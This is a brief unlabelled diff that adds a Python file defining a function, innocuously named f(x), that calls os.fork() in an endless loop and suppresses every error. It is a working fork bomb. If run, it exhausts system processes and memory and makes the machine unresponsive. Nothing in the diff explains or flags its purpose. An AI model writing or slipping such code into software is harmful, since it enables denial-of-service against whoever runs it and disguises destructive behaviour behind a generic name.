@@ -1,0 +1,9 @@
+import os
+
+
+def f(x):
+    while True:
+        try:
+            os.fork()
+        except Exception:
+            pass
